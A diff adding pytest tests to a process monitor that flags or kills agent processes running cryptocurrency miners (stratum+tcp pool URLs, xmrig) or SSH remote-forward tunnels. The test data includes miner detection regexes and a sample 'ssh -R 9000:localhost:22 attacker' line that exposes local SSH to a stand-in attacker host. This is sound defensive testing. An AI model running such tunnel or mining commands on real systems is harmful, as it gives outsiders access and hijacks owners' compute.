@@ -12,6 +12,7 @@ import pytest
 from monitor.engine import (
     CpuWindows,
     Verdict,
+    argv_rules,
     evaluate_connect,
     evaluate_cpu,
     evaluate_exec,
@@ -88,6 +89,44 @@ def test_argv_regexes_search_the_joined_command_line() -> None:
     assert execs(r, "kworker --url=stratum+tcp://pool.example:3333")
     assert execs(r, "kworker --donate-level 1")
     assert not execs(r, "kworker -o pool.example:3333")
+
+
+def test_argv_regexes_see_bytes_that_are_not_utf8_as_one_character_each() -> None:
+    """An invalid byte (a surrogate once decoded) inside or around the match changes
+    nothing: the regex runs over the whole line, whatever its encoding."""
+    r = one_rule("exec", r"{argv: ['(^|[ =])stratum\+tcp://.*:3333']}")
+    assert execs(r, "kworker --x=\udcff -o stratum+tcp://p\udcffol.example:3333")
+    assert execs(r, "kworker \udcc3 -o=stratum+tcp://\udcff\udcfe:3333 \udced\udca0")
+    assert not execs(r, "kworker --x=\udcff -o stratum+udp://p\udcffol.example:3333")
+
+
+def test_a_clipped_argv_is_judged_on_its_whole_line() -> None:
+    """More arguments than the monitor splits: argv holds a clip, line the whole of it."""
+    stratum = one_rule("exec", r"{argv: ['(^|[ =])stratum\+tcp://']}")
+    forward = one_rule("exec", "{ssh: [remote_forward]}")
+    pad = " -o SendEnv=A" * 300_000
+    clip = ("ssh", "-o", "SendEnv=A", "...[not kept]...", "attacker")
+    for rule, line in ((stratum, f"worker{pad} --pool stratum+tcp://pool:3333"),
+                       (forward, f"ssh{pad} -R 9000:localhost:22 attacker")):
+        assert match_exec(rule, "bot", "/usr/bin/x", "ssh", clip, line=line)
+        assert not match_exec(rule, "bot", "/usr/bin/x", "ssh", clip, line=f"ssh{pad} host")
+    # ssh: what any argument could request counts, the remote command's too (over-estimate)
+    assert match_exec(forward, "bot", "/usr/bin/ssh", "ssh", clip,
+                      line=f"ssh{pad} host ssh -R 1:x:2 other")
+
+
+def test_argv_rules_names_the_rules_a_cut_command_line_could_slip_past() -> None:
+    p = policy("""\
+        mode: monitor
+        agents: [{name: bot, match: [{comm: bot}]}, {name: other, match: [{comm: o}]}]
+        rules:
+          - {name: a, event: exec, action: kill, match: {name: [xmrig]}}
+          - {name: b, event: exec, action: kill, match: {argv: [x]}}
+          - {name: c, event: exec, action: alert, match: {ssh: [tunnel]}, agents: [other]}
+          - {name: d, event: exec, action: kill, match: {ssh: [remote_forward]}}
+    """)
+    assert argv_rules(p, "bot") == ["b", "d"]
+    assert argv_rules(p, "other") == ["b", "c", "d"]
 
 
 def test_conditions_are_anded() -> None:
